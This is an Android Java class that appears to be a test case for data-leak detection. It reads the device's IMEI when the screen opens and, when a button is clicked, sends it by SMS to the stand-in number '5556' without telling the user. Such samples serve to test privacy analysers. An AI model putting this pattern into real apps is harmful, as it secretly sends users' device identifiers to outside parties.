package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** Read at the start, sent at the click. */
public class Clicked extends Case {
    String f;
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        setContentView(R.layout.form);
        f = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        findViewById(R.id.send).setOnClickListener(new View.OnClickListener() { public void onClick(View v) { SmsManager.getDefault().sendTextMessage("5556", null, f, null, null); } });
    }
}
